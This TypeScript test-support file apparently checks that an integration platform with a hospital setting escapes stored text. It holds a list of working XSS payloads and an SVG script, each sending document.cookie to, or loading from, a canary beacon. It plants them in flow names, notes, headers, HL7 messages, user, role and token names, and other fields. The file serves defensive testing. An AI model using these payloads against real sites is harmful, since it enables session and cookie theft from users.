import { randomUUID } from 'node:crypto';
import { listRuns, noDoorSettings } from '@throughline/store';
import { sendMllp } from '../support/hospital.ts';
import { flowOf, node } from '../support/stage.ts';
import type { Arena } from './arena.ts';
import type { Person, Told } from './people.ts';

/** Text that would carry the reader's cookie to the canary, were it anything but text; each fits into a name. */
export function markups(beacon: string): string[] {
  return [
    `<img src=x onerror="fetch('${beacon}/a?'+document.cookie)">`,
    `<svg onload="fetch('${beacon}/b?'+document.cookie)"></svg>`,
    `<script>new Image().src='${beacon}/c?'+document.cookie</script>`,
    `![x](${beacon}/d.png) [x](javascript:fetch('${beacon}/d'))`,
    `<style>@import '${beacon}/e';*{background:url(${beacon}/e)}</style>`,
    `</style></script><link rel=stylesheet href="${beacon}/f">`,
    `<iframe srcdoc="<script>top.location='${beacon}/g'</script>">`,
    `javascript:fetch('${beacon}/h?'+document.cookie)//`,
    `<meta http-equiv=refresh content="0;url=${beacon}/i">`,
    `<base href="${beacon}/j/">`,
    `{{constructor.constructor("fetch('${beacon}/k')")()}}`,
    `'"><a href="${beacon}/l" autofocus onfocus=fetch('${beacon}/l')>`,
  ];
}

/** One that fits into a title. */
export const brief = (beacon: string) => `<img src="${beacon}/t">`;

/** What bears the markup, by id. */
export interface Planted {
  /** A flow whose name, notes and steps say it; its newest run stopped. */
  flow: string;
  runs: { json: string; hl7: string; text: string };
  quarantined: string;
  replay: string;
  release: number;
  client: string;
  /** Sends its message back as a page. */
  mirror: string;
}

/** Writes the markup wherever a text can be written: by messages, by people, by partners. */
export async function plantMarkup(arena: Arena, admin: Person, operator: Person): Promise<Planted> {
  const all = markups(arena.canaries.url);
  const whole = all.join('\n');
  let turn = 0;
  const next = () => all[turn++ % all.length]!;
  const tell = (method: string, path: string, json: unknown) => told(admin, method, path, json);

  const keys = {
    ...{ idempotency: [], order: null, correlation: 'id' },
    business: [{ name: 'usage', path: 'id', class: 'open' }],
  };
  const plain = { ...keys, business: [], correlation: null };
  const stops = 'console.log(message.id); throw new Error(message.id);';
  const nodes = [
    { ...node('in', 'trigger.http', { path: 'odd', keys }), name: next(), note: whole },
    { ...node('code', 'transform.code', { source: stops }), name: next() },
    node('send', 'connector.http', { connection: 'partner', url: '/odd' }),
  ];
  const odd = flowOf('odd', nodes, ['in>code', 'code>send']);
  const box = { x: 0, y: 300, width: 300, height: 200 };
  await arena.live({
    ...odd,
    name: next(),
    description: whole,
    fixtures: [
      {
        name: next(),
        kind: 'message',
        node: 'in',
        contentType: 'application/json',
        body: JSON.stringify({ id: whole }),
      },
    ] as never,
    layout: {
      ...odd.layout,
      frames: [{ id: 'frame', title: next(), ...box }],
      notes: [{ id: 'note', text: whole, ...box }],
    },
  });
  await told(admin, 'post', '/flows/odd/versions', { document: { ...odd, name: next() }, note: next() });
  const file = node('drop', 'connector.file', {
    folder: 'odd',
    name: { template: '{{ name }}.json' },
    badName: 'clean',
  });
  const segments = [node('in', 'trigger.mllp', { types: [] }), node('drop', 'connector.file', { folder: 'hl7' })];
  await arena.live(flowOf('segments', segments, ['in>drop']));
  const letters = [
    node('in', 'trigger.http', { path: 'letters', format: 'text', keys: plain }),
    node('drop', 'connector.file', { folder: 'letters' }),
  ];
  await arena.live(flowOf('letters', letters, ['in>drop']));
  await arena.live(flowOf('named', [node('in', 'trigger.http', { path: 'named', keys }), file], ['in>drop']));
  const mirror = {
    ...{ path: 'mirror', method: 'POST', format: 'text', keys: plain },
    answer: { mode: 'reply', timeoutS: 10 },
  };
  const page = {
    headers: { 'Content-Type': 'text/html; charset=utf-8' },
    body: { expr: '"<title>mirror</title>" & $' },
  };
  await arena.live(
    flowOf('mirror', [node('in', 'trigger.http', mirror), node('back', 'connector.respond', page)], ['in>back']),
  );
  const image = {
    headers: { 'Content-Type': 'image/svg+xml' },
    body: { expr: JSON.stringify(svg(arena.canaries.url)) },
  };
  const drawn = { ...mirror, path: 'drawn', method: 'GET' };
  await arena.live(
    flowOf('drawn', [node('in', 'trigger.http', drawn), node('back', 'connector.respond', image)], ['in>back']),
  );

  const header = { 'x-correlation-id': next(), 'user-agent': next(), referer: next() };
  await arena.post('odd', { id: next(), [next()]: whole, own: { $masked: 1, shape: next() } }, header);
  const json = (await arena.last('odd')).stop!;
  await arena.post('named', { id: 'file', name: next() });
  await sendMllp(
    arena.mllpPort,
    Buffer.from(
      `MSH|^~\\&|${all[0]}|B|C|D|20261118||ADT^A01|M1|P|2.5.1\rPID|1||7||${all[1]}^${all[2]}\rNTE|1||${whole.replaceAll('\n', '\\.br\\')}\r`,
    ),
  );
  await arena.post('letters', `<?xml version="1.0"?><x>${whole}</x>`, { 'content-type': 'text/html' });

  const environment = (await told(operator, 'get', '/environments/dev', undefined)).body as { settings: object };
  await tell('put', '/environments/dev', {
    ...{ title: brief(arena.canaries.url), colour: 'teal', protected: false },
    settings: { ...environment.settings, variables: { SITE: next() } },
  });
  const column = { name: 'code', title: next(), type: 'text', required: true };
  const definition = { name: 'odd', title: next(), description: whole.slice(0, 500), key: ['code'], effective: false };
  await tell('post', '/tables', {
    ...{ environment: 'dev', definition: { ...definition, columns: [column] }, note: next() },
    rows: [{ line: 1, values: { code: next() } }],
  });
  await tell('post', '/users', {
    email: 'odd@hospital.test',
    name: next(),
    role: 'viewer',
    password: 'a password of somebody',
  });
  await tell('post', '/invitations', { email: 'guest@hospital.test', name: next(), role: 'viewer' });
  await tell('post', '/service-accounts', { name: brief(arena.canaries.url), role: 'analyst' });
  await tell('post', '/break-glass-accounts', { name: brief(arena.canaries.url) });
  await tell('put', '/roles/odd', { title: brief(arena.canaries.url), sentence: next(), permissions: ['flow.see'] });
  await tell('post', '/tokens', { name: next(), permissions: ['flow.see'] });
  await tell('put', '/views', { screen: 'runs', name: brief(arena.canaries.url), query: { q: next() } });
  const client = await tell('post', '/clients', {
    ...{ environment: 'dev', name: next(), contact: next(), note: whole.slice(0, 500) },
    doors: [{ flow: 'odd', node: 'in', rate: null, quota: null }],
  });
  const described = { owner: next(), domain: brief(arena.canaries.url), summary: whole.slice(0, 300) };
  await tell('put', '/doors/odd/in', { environment: 'dev', settings: { ...noDoorSettings, ...described } });
  await tell('post', '/policies/exceptions', {
    environment: 'dev',
    flow: 'odd',
    node: 'in',
    rule: 'bound',
    reason: next(),
    days: 3,
  });
  const release = await tell('post', '/releases', { environment: 'dev', flows: ['odd', 'named'], title: next() });
  await admin.ask('post', `/releases/${String(release.body['number'])}/promotions`, {
    environment: 'prod',
    reason: next(),
  });

  await told(operator, 'put', '/quarantine/care', {
    environment: 'dev',
    quarantine: { ids: [json.id] },
    owner: next(),
    note: next(),
  });
  const replay = randomUUID();
  await told(operator, 'post', '/replays', {
    environment: 'dev',
    quarantine: { ids: [json.id] },
    id: replay,
    reason: next(),
    from: 'received',
  });
  const again = (await arena.last('odd')).stop!;
  const runOf = async (flow: string) => {
    await arena.last(flow);
    return (await listRuns(arena.stage.store, { environment: 'dev', flow, limit: 1 }))[0]!.id;
  };
  return {
    flow: 'odd',
    runs: { json: again.run, hl7: await runOf('segments'), text: await runOf('letters') },
    quarantined: again.id,
    replay,
    release: Number(release.body['number']),
    client: String(client.body['id']),
    mirror: 'mirror',
  };
}

export const svg = (beacon: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${beacon}/svg?'+document.cookie)</script></svg>`;

async function told(who: Person, method: string, path: string, json: unknown): Promise<Told> {
  const answer = await who.ask(method, path, json);
  if (answer.status >= 300) throw new Error(`${method} ${path}: ${answer.status} ${answer.text}`);
  return answer;
}
